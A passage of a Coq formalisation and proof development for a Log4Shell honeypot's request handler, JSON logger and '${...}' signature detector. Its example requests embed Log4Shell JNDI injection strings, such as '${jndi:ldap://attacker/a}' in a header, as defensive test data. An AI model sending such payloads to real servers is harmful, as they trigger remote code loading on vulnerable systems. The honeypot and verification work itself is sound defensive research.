      | Some D => let (d, rest) := read_digits s' in (D d, rest)
      | None => (Nil, s)
      end
  | EmptyString => (Nil, s)
  end.

(** [NUMBER_RE]: the integer part is a zero or starts with 1-9; a fraction
    or an exponent after it makes a float, which is not read here. *)
Definition read_nat (s : string) : option (N * string) :=
  match s with
  | String c s' =>
      if Ascii.eqb c "0" then Some (0%N, s')
      else match digit_of c with
           | Some _ => let (d, rest) := read_digits s in Some (N.of_uint d, rest)
           | None => None
           end
  | EmptyString => None
  end.

Definition starts_float (s : string) : bool :=
  match s with
  | String c _ => Ascii.eqb c "." || Ascii.eqb c "e" || Ascii.eqb c "E"
  | EmptyString => false
  end.

Definition read_number (s : string) : option (json * string) :=
  let r :=
    match s with
    | String "-" s' =>
        option_map (fun nr => (Z.opp (Z.of_N (fst nr)), snd nr)) (read_nat s')
    | _ => option_map (fun nr => (Z.of_N (fst nr), snd nr)) (read_nat s)
    end in
  match r with
  | Some (z, rest) => if starts_float rest then None else Some (JInt z, rest)
  | None => None
  end.

(** [scan_once] and [JSONObject].  [fuel] bounds the number of values and
    members read.  The pairs of an object go through [dict(pairs)]. *)
Fixpoint read_value (fuel : nat) (s : string) : option (json * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | EmptyString => None
      | String c s' =>
          if Ascii.eqb c dquote then
            match scanstring Plain None [] s' with
            | Some (x, rest) => Some (JStr x, rest)
            | None => None
            end
          else if Ascii.eqb c "{" then
            match skip_ws s' with
            | String "}" rest => Some (JObj [], rest)
            | t =>
                match read_members fuel' [] t with
                | Some (d, rest) => Some (JObj d, rest)
                | None => None
                end
            end
          else if Ascii.eqb c "n" then
            match s' with
            | String "u" (String "l" (String "l" rest)) => Some (JNull, rest)
            | _ => None
            end
          else read_number s
      end
  end

(** [s] is at the opening quote of a member's key. *)
with read_members (fuel : nat) (d : list (ustr * json)) (s : string)
  : option (list (ustr * json) * string) :=
  match fuel with
  | O => None
  | S fuel' =>
      match s with
      | String c s1 =>
          if Ascii.eqb c dquote then
            match scanstring Plain None [] s1 with
            | Some (k, s2) =>
                match skip_ws s2 with
                | String ":" s3 =>
                    match read_value fuel' (skip_ws s3) with
                    | Some (v, s4) =>
                        let d' := dict_set ustr_eqb d k v in
                        match skip_ws s4 with
                        | String "}" rest => Some (d', rest)
                        | String "," s5 => read_members fuel' d' (skip_ws s5)
                        | _ => None
                        end
                    | None => None
                    end
                | _ => None
                end
            | None => None
            end
          else None
      | EmptyString => None
      end
  end.

(** [json.loads]: one value, white space around it, nothing else. *)
Definition loads (s : string) : option json :=
  match read_value (S (String.length s)) (skip_ws s) with
  | Some (v, rest) =>
      match skip_ws rest with
      | EmptyString => Some v
      | _ => None
      end
  | None => None
  end.

(** ** Vocabulary of the properties *)

Fixpoint no_nl (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => negb (Ascii.eqb c "010") && no_nl s'
  end.

(** The texts the pattern describes: the opening marker, any characters of
    one line, the closing marker. *)
Definition signature (m : string) : Prop :=
  exists mid, m = "${" ++ mid ++ "}" /\ no_nl mid = true.

(** [m] is the part of [s] that starts at index [i]. *)
Definition occurs_at (s : string) (i : nat) (m : string) : Prop :=
  exists pre post, s = pre ++ m ++ post /\ String.length pre = i.

Definition substring_of (m s : string) : Prop := exists i, occurs_at s i m.

Definition contains_signature (s : string) : Prop :=
  exists i m, occurs_at s i m /\ signature m.

(** A span from an opening marker to a closing marker, whatever lies
    between them. *)
Definition marker_span (m : string) : Prop :=
  exists mid, m = "${" ++ mid ++ "}".

(** What was written to the local log file, oldest first. *)
Fixpoint file_writes (t : list effect) : list string :=
  match t with
  | [] => []
  | FileWrite j :: t' => j :: file_writes t'
  | _ :: t' => file_writes t'
  end.

(** Effects on the log file, as opposed to those on the connection. *)
Definition is_file_effect (e : effect) : bool :=
  match e with
  | FileWrite _ | FileFlush | FileClose => true
  | _ => false
  end.

(** The places of a request that are scanned, with their tags. *)
Definition surfaces (self : Request) : list (string * string) :=
  ("request", requestline self)
  :: map (fun hv => ("header-" ++ fst hv, snd hv)) (headers self).

(** [scan_spec ss ds]: [ds] lists, in order, one detection (tag and payload)
    for every surface of [ss] that contains the signature, and nothing for
    the others. *)
Inductive scan_spec : list (string * string) -> list (string * string) -> Prop :=
| scan_nil : scan_spec [] []
| scan_hit loc content payload ss ds :
    contains_signature content ->
    signature payload ->
    substring_of payload content ->
    scan_spec ss ds ->
    scan_spec ((loc, content) :: ss) ((loc, payload) :: ds)
| scan_miss loc content ss ds :
    ~ contains_signature content ->
    scan_spec ss ds ->
    scan_spec ((loc, content) :: ss) ds.

(** The part of [do] between the response and the capture event: the
    body, when the request announces one. *)
Definition read_body (self : Request) : outcome (option ustr) :=
  if dict_mem String.eqb (dict_of_message (headers self)) "Content-Length"
  then
    match
      match msg_get (headers self) "Content-Length" with
      | Some v => py_int v
      | None => Raise (TypeError "int() argument must be a string")
      end
    with
    | Ok content_length =>
        match rfile_read (rfile self) content_length with
        | Ok post_data =>
            match utf8_decode post_data with
            | Ok content => Ok (Some content)
            | Raise e => Raise e
            end
        | Raise e => Raise e
        end
    | Raise e => Raise e
    end
  else Ok None.

(** The keyword arguments and the record of a capture event, and the record
    of an exploit event. *)
Definition capture_kwargs (server : Server) (self : Request) (uuid : N)
           (body : option ustr) : list (ustr * json) :=
  ([(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
    (latin1 "server_port", JInt (snd (server_address server)));
    (latin1 "client", JStr (latin1 (fst (client_address self))));
    (latin1 "port", JInt (snd (client_address self)));
    (latin1 "request", JStr (latin1 (requestline self)));
    (latin1 "headers", json_of_headers (dict_of_message (headers self)))]
   ++ match body with
      | Some content => [(latin1 "body", JStr content)]
      | None => []
      end)%list.

Definition capture_record (server : Server) (self : Request) (uuid : N)
           (now : datetime) (body : option ustr) : list (ustr * json) :=
  log_record (latin1 "request") now (capture_kwargs server self uuid body).

Definition exploit_record (self : Request) (uuid : N) (now : datetime)
           (detection : string * string) : list (ustr * json) :=
  log_record (latin1 "exploit") now
    [(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
     (latin1 "location", JStr (latin1 (fst detection)));
     (latin1 "payload", JStr (latin1 (snd detection)));
     (latin1 "client", JStr (latin1 (fst (client_address self))))].

(** The records of successive detections, stamped with successive clock
    readings from reading number [t] on. *)
Fixpoint exploit_records (self : Request) (uuid : N) (clk : nat -> datetime)
         (t : nat) (ds : list (string * string)) : list (list (ustr * json)) :=
  match ds with
  | [] => []
  | d :: ds' =>
      exploit_record self uuid (clk t) d
      :: exploit_records self uuid clk (S t) ds'
  end.

(** A field of a record. *)
Definition field (d : list (ustr * json)) (name : string) : option json :=
  dict_get ustr_eqb d (latin1 name).

(** The four steps of the fixed response. *)
Definition fixed_response (server : Server) (uuid : N) : list effect :=
  [SendResponse
     match server_header server with
     | Some h => if String.eqb h EmptyString then None else Some h
     | None => None
     end 200;
   SendHeader "Content-Type" "text/json";
   EndHeaders;
   WfileWrite (response_body uuid)].

Section Frames.
Context {Blob : Type}.

(** [logged w w' ds]: from [w] to [w'] the process touched nothing but the
    log file, wrote there the lines of the records [ds], one clock reading
    each, and kept the clock and the random source. *)
Definition logged (w w' : @World Blob) (ds : list (list (ustr * json))) : Prop :=
  exists rest,
    trace w' = (trace w ++ rest)%list /\
    forallb is_file_effect rest = true /\
    file_writes rest = map log_line ds /\
    clock w' = clock w /\ ticks w' = ticks w + List.length ds /\
    urandom w' = urandom w /\ draws w' = draws w.
End Frames.

Definition has_type (t : string) (d : list (ustr * json)) : bool :=
  match field d "type" with
  | Some (JStr s) => ustr_eqb s (latin1 t)
  | _ => false
  end.

(** The names of a list in the order of their first occurrence. *)
Fixpoint first_occurrences (l : list string) : list string :=
  match l with
  | [] => []
  | x :: l' => x :: filter (fun y => negb (String.eqb y x)) (first_occurrences l')
  end.

(** An opening marker that no closing marker follows. *)
Definition never_closed (content : string) : Prop :=
  forall pre post, content = pre ++ "${" ++ post ->
  forall a b, post <> a ++ "}" ++ b.

(** ** The sentences of the specification that the code does not satisfy as
    they stand, each as a predicate of the input it speaks about *)

(** The reported match is the shortest span between the two markers. *)
Definition shortest_span_reported (s : string) : Prop :=
  forall i m, search re_exploit s = Some (i, m) ->
  forall j m', occurs_at s j m' -> marker_span m' ->
  String.length m <= String.length m'.


Section Sentences.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).
Context (server_bind : Z -> outcome unit)
        (traffic : Z -> list Request * option exn).

(** Handling the request writes one exploit event for each surface that
    contains the signature (after whatever else it writes). *)
Definition scans_every_surface (server : Server) (self : Request)
           (w : @World Blob) : Prop :=
  let w' := snd (do append_block server self w) in
  let u := uuid_of_random (urandom w (draws w)) in
  exists pre t ds,
    scan_spec (surfaces self) ds /\
    file_writes (trace w') =
    (file_writes (trace w) ++ pre
     ++ map log_line (exploit_records self u (clock w) t ds))%list.

(** [log] returns to its caller without raising. *)
Definition log_returns (logtype message : ustr) (kwargs : list (ustr * json))
           (w : @World Blob) : Prop :=
  fst (log append_block logtype message kwargs w) = Ok tt.

(** Handling the request writes exactly one capture event. *)
Definition one_capture_event (server : Server) (self : Request)
           (w : @World Blob) : Prop :=
  let w' := snd (do append_block server self w) in
  exists ds,
    file_writes (trace w') = (file_writes (trace w) ++ map log_line ds)%list /\
    List.length (filter (has_type "request") ds) = 1.

(** Handling the request writes an exception event and a capture event. *)
Definition decoding_error_recorded (server : Server) (self : Request)
           (w : @World Blob) : Prop :=
  let w' := snd (do append_block server self w) in
  exists ds,
    file_writes (trace w') = (file_writes (trace w) ++ map log_line ds)%list /\
    existsb (has_type "exception") ds = true /\
    existsb (has_type "request") ds = true.

End Sentences.

(** ** Concrete surroundings for the examples *)

(** A remote that accepts every block, and one that is unreachable. *)
Definition remote_ok (b : list string) (j : string) : outcome unit * list string :=
  (Ok tt, (b ++ [j])%list).

Definition remote_down (b : list string) (j : string) : outcome unit * list string :=
  (Raise (OtherError "remote unavailable"), b).

Definition noon : datetime :=
  {| year := 2021; month := 12; day := 13;
     hour := 12; minute := 0; second := 0; microsecond := 0 |}.

Definition world0 (remote : option (list string)) : @World (list string) :=
  mkWorld [] remote (fun _ => noon) 0 (fun n => N.of_nat n) 0.

Definition server0 : Server :=
  {| server_address := (EmptyString, 8080%Z); server_header := Some "Apache/2.4.1" |}.

(** A probe in the request line together with a length that is no number. *)
Definition probe_bad_length : Request :=
  {| command := "GET";
     requestline := "GET /${jndi:ldap://x} HTTP/1.1";
     headers := [("Host", "h"); ("Content-Length", "abc")];
     rfile := [];
     client_address := ("10.0.0.1", 40000%Z) |}.

(** A body of one byte that is not UTF-8. *)
Definition bad_utf8_body : Request :=
  {| command := "POST";
     requestline := "POST / HTTP/1.1";
     headers := [("Content-Length", "1")];
     rfile := [Byte.xff];
     client_address := ("10.0.0.1", 40000%Z) |}.

(** Scenario 2 of the specification: the signature in the body only. *)
Definition probe_in_body : Request :=
  {| command := "POST";
     requestline := "POST / HTTP/1.1";
     headers := [("Content-Length", "11")];
     rfile := [Byte.x24; Byte.x7b; Byte.x65; Byte.x6e; Byte.x76; Byte.x3a;
               Byte.x50; Byte.x41; Byte.x54; Byte.x48; Byte.x7d];
     client_address := ("10.0.0.1", 40000%Z) |}.

(** Scenario 1 of the specification: the signature in a header. *)
Definition probe_in_header : Request :=
  {| command := "GET";
     requestline := "GET / HTTP/1.1";
     headers := [("X-Api-Version", "${jndi:ldap://attacker/a}")];
     rfile := [];
     client_address := ("10.0.0.1", 40000%Z) |}.


Definition one_probe_on_8080 (p : Z) : list Request * option exn :=
  if (p =? 8080)%Z then ([probe_in_header], None) else ([], None).

(** Every port binds; the loop of port 8080 breaks after its request. *)
Definition bind_ok (p : Z) : outcome unit := Ok tt.

Definition loop_breaks_on_8080 (p : Z) : list Request * option exn :=
  if (p =? 8080)%Z
  then ([probe_in_header], Some (OSError "[Errno 24] Too many open files"))
  else ([probe_in_header], None).

(** ** Well-formed values

    A Python string holds code points up to U+10FFFF; the strings of this
    program (decoded Latin-1 or UTF-8 text, identifiers, messages) hold no
    surrogate code points.  The keys of a dictionary are distinct. *)

Definition scalar (c : N) : bool :=
  ((c <? 55296) || ((57343 <? c) && (c <? 1114112)))%N.

Definition wf_ustr (s : ustr) : bool := forallb scalar s.

Fixpoint unique_keys (l : list ustr) : bool :=
  match l with
  | [] => true
  | k :: l' => negb (existsb (ustr_eqb k) l') && unique_keys l'
  end.

Fixpoint wf_json (v : json) : bool :=
  match v with
  | JNull | JInt _ => true
  | JStr s => wf_ustr s
  | JObj kvs =>
      unique_keys (map fst kvs)
      && (fix all (l : list (ustr * json)) : bool :=
            match l with
            | [] => true
            | (k, x) :: l' => wf_ustr k && wf_json x && all l'
            end) kvs
  end.

Definition wf_members (l : list (ustr * json)) : bool :=
  forallb (fun kv => wf_ustr (fst kv) && wf_json (snd kv)) l.

(** The number of values and members of a value: the fuel its reading needs. *)
Fixpoint jsize (v : json) : nat :=
  match v with
  | JObj kvs =>
      S ((fix sum (l : list (ustr * json)) : nat :=
            match l with
            | [] => O
            | (_, x) :: l' => S (jsize x + sum l')
            end) kvs)
  | _ => 1
  end.

Definition msize (l : list (ustr * json)) : nat :=
  fold_right (fun kv n => S (jsize (snd kv) + n)) O l.

(** What may follow a value in a log line: a comma, a closing brace, the
    line feed, or nothing. *)
Definition delimited (rest : string) : bool :=
  match rest with
  | EmptyString => true
  | String c _ => Ascii.eqb c "," || Ascii.eqb c "}" || Ascii.eqb c "010"
  end.

Definition no_digit_ahead (rest : string) : Prop :=
  match rest with
  | String c _ => digit_of c = None
  | EmptyString => True
  end.

(** ** The format of a timestamp

    [YYYY-MM-DDTHH:MM:SS], with [.ffffff] after it when the microseconds are
    not zero: ISO 8601, no zone designator. *)

Fixpoint eat_digits (k : nat) (s : string) : option string :=
  match k with
  | O => Some s
  | S k' =>
      match s with
      | String c s' => if is_digit c then eat_digits k' s' else None
      | EmptyString => None
      end
  end.

Definition eat_char (c : ascii) (s : string) : option string :=
  match s with
  | String d s' => if Ascii.eqb d c then Some s' else None
  | EmptyString => None
  end.

Definition and_then (o : option string) (f : string -> option string)
  : option string :=
  match o with Some s => f s | None => None end.

Definition iso8601 (s : string) : bool :=
  match
    and_then (eat_digits 4 s) (fun s =>
    and_then (eat_char "-" s) (fun s =>
    and_then (eat_digits 2 s) (fun s =>
    and_then (eat_char "-" s) (fun s =>
    and_then (eat_digits 2 s) (fun s =>
    and_then (eat_char "T" s) (fun s =>
    and_then (eat_digits 2 s) (fun s =>
    and_then (eat_char ":" s) (fun s =>
    and_then (eat_digits 2 s) (fun s =>
    and_then (eat_char ":" s) (fun s =>
    eat_digits 2 s))))))))))
  with
  | Some EmptyString => true
  | Some rest =>
      match and_then (eat_char "." rest) (eat_digits 6) with
      | Some EmptyString => true
      | _ => false
      end
  | None => false
  end.

(** The ranges of the fields of a [datetime]. *)
Definition valid_datetime (t : datetime) : Prop :=
  (1 <= year t <= 9999 /\ 1 <= month t <= 12 /\ 1 <= day t <= 31 /\
   hour t <= 23 /\ minute t <= 59 /\ second t <= 59 /\
   microsecond t <= 999999)%N.

Section RoundTrip.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

(** The line that a call of [log] appends to the file reads back as an
  object with the event type, a timestamp in the format above, and the
  fields that were passed. *)
Definition round_trips (logtype message : ustr) (kwargs : list (ustr * json))
         (w : @World Blob) : Prop :=
exists line d,
  file_writes (trace (snd (log append_block logtype message kwargs w)))
  = (file_writes (trace w) ++ [line])%list /\
  loads line = Some (JObj d) /\
  field d "type" = Some (JStr logtype) /\
  (exists ts, field d "timestamp" = Some (JStr (latin1 ts))
              /\ iso8601 ts = true) /\
  forall k v, dict_get ustr_eqb kwargs k = Some v ->
              dict_get ustr_eqb d k = Some v.
End RoundTrip.

(** ** [Log4PotArgumentParser.convert_arg_line_to_args]

    A line of an argument file is a Python string.  [str.split()] without a
    separator cuts it at the runs of white space (the characters for which
    [str.isspace] holds) and returns the pieces between them, none of them
    empty. *)

Definition is_whitespace (c : N) : bool :=
  in_range 9 13 c || in_range 28 32 c || (c =? 133)%N || (c =? 160)%N
  || (c =? 5760)%N || in_range 8192 8202 c || (c =? 8232)%N || (c =? 8233)%N
  || (c =? 8239)%N || (c =? 8287)%N || (c =? 12288)%N.

(** [split_from cur s]: the scan of [s]; [cur] is the piece in progress,
    [None] between two pieces. *)
Fixpoint split_from (cur : option ustr) (s : ustr) : list ustr :=
  match s with
  | [] => match cur with Some piece => [piece] | None => [] end
  | c :: s' =>
      if is_whitespace c then
        match cur with
        | Some piece => piece :: split_from None s'
        | None => split_from None s'
        end
      else
        split_from (Some (match cur with
                          | Some piece => (piece ++ [c])%list
                          | None => [c]
                          end)) s'
  end.

(** [s.split()] *)
Definition split (s : ustr) : list ustr := split_from None s.

Definition convert_arg_line_to_args (arg_line : ustr) : list ustr :=
  split arg_line.

(** ** More vocabulary *)

(** A piece of text without white space, and a run of white space. *)
Definition word (a : ustr) : Prop :=
  a <> [] /\ forallb (fun c => negb (is_whitespace c)) a = true.

Definition blank (g : ustr) : Prop := forallb is_whitespace g = true.

(** The text stops here or goes on with white space. *)
Definition at_gap (s : ustr) : Prop :=
  match s with
  | [] => True
  | c :: _ => is_whitespace c = true
  end.

(** Printable ASCII: from the blank to the tilde. *)
Definition printable (c : ascii) : bool := in_range 32 126 (N_of_ascii c).

Fixpoint all_printable (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => printable c && all_printable s'
  end.

(** A character that a JSON string holds as it is: printable ASCII other
    than the quote and the backslash. *)
Definition plain_char (c : ascii) : bool :=
  printable c && negb (Ascii.eqb c dquote) && negb (Ascii.eqb c backslash).

Fixpoint all_plain (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c s' => plain_char c && all_plain s'
  end.

(** What was written to the client as response bodies, oldest first. *)
Fixpoint wfile_writes (t : list effect) : list string :=
  match t with
  | [] => []
  | WfileWrite data :: t' => data :: wfile_writes t'
  | _ :: t' => wfile_writes t'
  end.

(** Effects on the connection of a request. *)
Definition is_response_effect (e : effect) : bool :=
  match e with
  | SendResponse _ _ | SendHeader _ _ | EndHeaders | WfileWrite _ => true
  | _ => false
  end.

Definition is_stdout (e : effect) : bool :=
  match e with Stdout _ => true | _ => false end.

(** The event types of the log. *)
Definition event_types : list string :=
  ["start"; "request"; "exploit"; "exception"; "end"].

(** A record whose line reads back as the record, with one of the event
    types in its field [type]. *)
Definition event_record (d : list (ustr * json)) : Prop :=
  loads (log_line d) = Some (JObj d) /\
  exists t, In t event_types /\ has_type t d = true.

(** The calls of [log] that the program makes: event type and keyword
    arguments. *)
Inductive program_call : ustr -> list (ustr * json) -> Prop :=
| call_start : program_call (latin1 "start") []
| call_end : program_call (latin1 "end") []
| call_exception e :
    program_call (latin1 "exception")
      [(latin1 "exception", JStr (latin1 (str_exn e)))]
| call_request server self uuid body :
    read_body self = Ok body ->
    program_call (latin1 "request") (capture_kwargs server self uuid body)
| call_exploit (self : Request) uuid location content i payload :
    search re_exploit content = Some (i, payload) ->
    program_call (latin1 "exploit")
      [(latin1 "correlation_id", JStr (latin1 (str_uuid uuid)));
       (latin1 "location", JStr (latin1 location));
       (latin1 "payload", JStr (latin1 payload));
       (latin1 "client", JStr (latin1 (fst (client_address self))))].

(** The lines of standard output. *)
Definition started (p : Z) : effect :=
  Stdout ("Started DPot server on port " ++ str_int p ++ ".").

Definition stopped (p : Z) : effect :=
  Stdout ("Stopped DPot server on port " ++ str_int p ++ ".").

Section Surroundings.
Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

(** No remote blob is configured, or its writes succeed. *)
Definition log_cannot_fail (w : @World Blob) : Prop :=
  blob w = None \/ forall b j, fst (append_block b j) = Ok tt.
End Surroundings.

(** * Properties *)

(** ** Strings *)

Lemma append_assoc (a b c : string) : (a ++ b) ++ c = a ++ b ++ c.
Proof. induction a; simpl; congruence. Qed.

Lemma append_nil_r (a : string) : a ++ EmptyString = a.
Proof. induction a; simpl; congruence. Qed.

Lemma length_append (a b : string) :
  String.length (a ++ b) = String.length a + String.length b.
Proof. induction a; simpl; congruence. Qed.

(** ** The detector

    [match_star Dot close_k] is the greedy core of the pattern: it takes
    characters of the current line as long as a closing brace can still be
    found, and so ends at the last closing brace of the line. *)

Lemma close_k_some t m :
  close_k t = Some m -> m = "}" /\ exists post, t = "}" ++ post.
Proof.
  unfold close_k; simpl. destruct t as [|c t]; [discriminate|].
  destruct (Ascii.eqb_spec c "}"); [|discriminate].
  simpl. intros [= <-]. subst c. split; [reflexivity | now exists t].
Qed.

Lemma star_sound t : forall m,
  match_star Dot close_k t = Some m ->
  exists mid post, m = mid ++ "}" /\ t = m ++ post /\ no_nl mid = true.
Proof.
  induction t as [|c t IH]; intros m H; simpl in H.
  - apply close_k_some in H as [_ [post Hp]]. discriminate.
  - destruct (Ascii.eqb c "010") eqn:Hc; simpl in H.
    + apply close_k_some in H as [-> [post Hp]].
      exists EmptyString, post. auto.
    + destruct (match_star Dot close_k t) as [m'|] eqn:Hm.
      * injection H as <-. destruct (IH _ eq_refl) as (mid & post & -> & Ht & Hn).
        exists (String c mid), post. simpl. rewrite Hc. simpl.
        repeat split; auto. now rewrite <- Ht.
      * apply close_k_some in H as [-> [post Hp]].
        exists EmptyString, post. auto.
Qed.

Lemma star_complete t : forall mid post,
  t = mid ++ "}" ++ post -> no_nl mid = true ->
  match_star Dot close_k t <> None.
Proof.
  induction t as [|c t IH]; intros mid post Ht Hn.
  - destruct mid; discriminate.
  - simpl. destruct mid as [|d mid]; simpl in Ht; injection Ht as -> ->.
    + simpl. destruct (match_star Dot close_k post); discriminate.
    + simpl in Hn. apply andb_prop in Hn as [Hd Hn]. rewrite Hd.
      specialize (IH mid post eq_refl Hn).
      destruct (match_star Dot close_k _); congruence.
Qed.

Lemma star_longest t : forall m,
  match_star Dot close_k t = Some m ->
  forall mid post, t = mid ++ "}" ++ post -> no_nl mid = true ->
  String.length (mid ++ "}") <= String.length m.
Proof.
  induction t as [|c t IH]; intros m H mid post Ht Hn.
  - destruct mid; discriminate.
  - destruct mid as [|d mid].
    + apply star_sound in H as (mid0 & post0 & -> & _ & _).
      simpl. rewrite length_append. simpl. lia.
    + simpl in Ht. injection Ht as -> ->.
      simpl in Hn. apply andb_prop in Hn as [Hd Hn].
      simpl in H. rewrite Hd in H.
      pose proof (star_complete _ mid post eq_refl Hn) as Hc.
      destruct (match_star Dot close_k _) as [m'|] eqn:Hm; [|congruence].
      injection H as <-. simpl. apply le_n_S.
      exact (IH _ eq_refl mid post eq_refl Hn).
Qed.

(** The pattern at the start of [t]. *)
Lemma match_here_unfold t :
  match_here re_exploit t =
  match t with
  | String c0 (String c1 t') =>
      if (Ascii.eqb c0 "$" && Ascii.eqb c1 "{")%bool
      then option_map (fun m => "${" ++ m) (match_star Dot close_k t')
      else None
  | _ => None
  end.
Proof.
  destruct t as [|c0 [|c1 t]]; simpl; try reflexivity.
  - now destruct (Ascii.eqb c0 "$").
  - destruct (Ascii.eqb_spec c0 "$") as [->|]; [|reflexivity].
    destruct (Ascii.eqb_spec c1 "{") as [->|]; [|reflexivity].
    simpl. unfold close_k. simpl.
    now destruct (match_star Dot _ t).
Qed.

Lemma match_here_sound t m :
  match_here re_exploit t = Some m ->
  signature m /\ exists post, t = m ++ post.
Proof.
  rewrite match_here_unfold. intros H.
  destruct t as [|c0 [|c1 t]]; try discriminate.
  destruct (Ascii.eqb_spec c0 "$") as [->|]; [|discriminate].
  destruct (Ascii.eqb_spec c1 "{") as [->|]; [|discriminate].
  simpl in H.
  destruct (match_star Dot close_k t) as [m'|] eqn:Hm; [|discriminate].
  injection H as <-.
  apply star_sound in Hm as (mid & post & -> & Ht & Hn).
  split; [exists mid; auto | exists post; simpl; now rewrite <- Ht].
Qed.

Lemma match_here_complete mid post :
  no_nl mid = true ->
  match_here re_exploit ("${" ++ mid ++ "}" ++ post) <> None.
Proof.
  intros Hn. rewrite match_here_unfold. simpl.
  pose proof (star_complete _ mid post eq_refl Hn).
  destruct (match_star Dot close_k _); simpl; congruence.
Qed.

Lemma match_here_longest t m m' post' :
  match_here re_exploit t = Some m ->
  signature m' -> t = m' ++ post' ->
  String.length m' <= String.length m.
Proof.
  intros H (mid & -> & Hn) ->.
  rewrite match_here_unfold in H. simpl in H.
  destruct (match_star Dot close_k _) as [m0|] eqn:Hm; [|discriminate].
  injection H as <-. simpl. do 2 apply le_n_S.
  exact (star_longest _ _ Hm mid post' (append_assoc _ _ _) Hn).
Qed.

(** [search_from] walks the start positions from the left. *)
Lemma search_from_some r s : forall pos i m,
  search_from r pos s = Some (i, m) ->
  exists pre t,
    s = pre ++ t /\ i = pos + String.length pre /\ match_here r t = Some m /\
    forall pre' t', s = pre' ++ t' ->
                    String.length pre' < String.length pre ->
                    match_here r t' = None.
Proof.
  induction s as [|c s IH]; intros pos i m H; simpl in H.
  - destruct (match_here r EmptyString) as [m0|] eqn:Hm; [|discriminate].
    injection H as <- <-. exists EmptyString, EmptyString. simpl. repeat split; auto.
    intros ? ? _ Hl. lia.
  - destruct (match_here r (String c s)) as [m0|] eqn:Hm.
    + injection H as <- <-. exists EmptyString, (String c s). simpl.
      repeat split; auto. intros ? ? _ Hl. lia.
    + apply IH in H as (pre & t & -> & -> & Ht & Hmin).
      exists (String c pre), t.
      split; [reflexivity|]. split; [simpl; lia|]. split; [exact Ht|].
      intros pre' t' Heq Hl. destruct pre' as [|d pre'].
      * simpl in Heq. now subst t'.
      * simpl in Heq. injection Heq as -> Heq. apply (Hmin pre' t' Heq).
        simpl in Hl. lia.
Qed.

Lemma search_from_none r s : forall pos,
  search_from r pos s = None ->
  forall pre t, s = pre ++ t -> match_here r t = None.
Proof.
  induction s as [|c s IH]; intros pos H pre t Heq; simpl in H.
  - destruct pre; [|discriminate]. simpl in Heq. subst t.
    destruct (match_here r EmptyString); [discriminate | reflexivity].
  - destruct (match_here r (String c s)) eqn:Hm; [discriminate|].
    destruct pre as [|d pre]; simpl in Heq.
    + now subst t.
    + injection Heq as -> Heq. eapply IH; eauto.
Qed.

Lemma search_sound s i m :
  search re_exploit s = Some (i, m) -> occurs_at s i m /\ signature m.
Proof.
  intros H. apply search_from_some in H as (pre & t & -> & -> & Ht & _).
  apply match_here_sound in Ht as [Hs [post ->]].
  split; [exists pre, post; auto | exact Hs].
Qed.

Lemma search_leftmost s i m i' m' :
  search re_exploit s = Some (i, m) ->
  occurs_at s i' m' -> signature m' -> i <= i'.
Proof.
  intros H (pre' & post' & Hs & <-) (mid & -> & Hn).
  apply search_from_some in H as (pre & t & -> & -> & _ & Hmin).
  simpl. destruct (Nat.le_gt_cases (String.length pre) (String.length pre'))
    as [Hle|Hlt]; [exact Hle|].
  specialize (Hmin _ _ Hs Hlt). rewrite !append_assoc in Hmin.
  exfalso. exact (match_here_complete mid post' Hn Hmin).
Qed.

Lemma append_inv_length (a b c d : string) :
  a ++ b = c ++ d -> String.length a = String.length c -> a = c /\ b = d.
Proof.
  revert c. induction a as [|x a IH]; intros [|y c]; simpl; try discriminate.
  - auto.
  - intros [= -> H] [= Hl]. destruct (IH _ H Hl). now subst.
Qed.

Lemma search_longest s i m m' :
  search re_exploit s = Some (i, m) ->
  occurs_at s i m' -> signature m' ->
  String.length m' <= String.length m.
Proof.
  intros H (pre' & post' & Hs & Hl) Hsig.
  apply search_from_some in H as (pre & t & -> & -> & Ht & _).
  simpl in Hl. apply append_inv_length in Hs as [-> ->]; [|now symmetry].
  eapply match_here_longest; eauto.
Qed.

Lemma search_complete s :
  contains_signature s -> exists i m, search re_exploit s = Some (i, m).
Proof.
  intros (i & m & (pre & post & -> & _) & (mid & -> & Hn)).
  destruct (search re_exploit (pre ++ ("${" ++ mid ++ "}") ++ post))
    as [[i' m']|] eqn:H; [eauto|].
  eapply search_from_none in H; [|reflexivity].
  rewrite !append_assoc in H.
  exfalso. exact (match_here_complete mid post Hn H).
Qed.

(** ** The logger and the request handler *)

Section Properties.

Context {Blob : Type} (append_block : Blob -> string -> outcome unit * Blob).

Implicit Types w : @World Blob.

Lemma file_writes_app (a b : list effect) :
  file_writes (a ++ b) = (file_writes a ++ file_writes b)%list.
Proof.
  induction a as [|e a IH]; [reflexivity|].
  destruct e; simpl; rewrite ?IH; reflexivity.
Qed.

Lemma logged_refl w : logged w w [].
Proof.
  exists []. rewrite app_nil_r, Nat.add_0_r. repeat split; reflexivity.
Qed.

Lemma logged_trans w w1 w2 ds1 ds2 :
  logged w w1 ds1 -> logged w1 w2 ds2 -> logged w w2 (ds1 ++ ds2).
Proof.
  intros (r1 & Ht1 & Hf1 & Hw1 & Hc1 & Hk1 & Hu1 & Hd1)
         (r2 & Ht2 & Hf2 & Hw2 & Hc2 & Hk2 & Hu2 & Hd2).
  exists (r1 ++ r2)%list.
  rewrite Ht2, Ht1, <- app_assoc, forallb_app, Hf1, Hf2, file_writes_app,
    Hw1, Hw2, map_app, length_app.
  repeat split; try congruence. lia.
Qed.

Lemma log_run ty msg kw w :
  log append_block ty msg kw w =
  let j := log_line (log_record ty (clock w (ticks w)) kw) in
  let tr := (trace w ++ [FileWrite j; FileFlush])%list in
  match blob w with
  | None =>
      (Ok tt, mkWorld tr None (clock w) (S (ticks w)) (urandom w) (draws w))
  | Some b =>
      (fst (append_block b j),
       mkWorld tr (Some (snd (append_block b j))) (clock w) (S (ticks w))
               (urandom w) (draws w))
  end.
Proof.
  unfold log, bind, utcnow, emit, blob_append. simpl.
  rewrite <- app_assoc. simpl.
  destruct (blob w) as [b|]; [|reflexivity].
  now destruct (append_block b _).
Qed.

Lemma log_trace ty msg kw w :
  trace (snd (log append_block ty msg kw w)) =
  (trace w
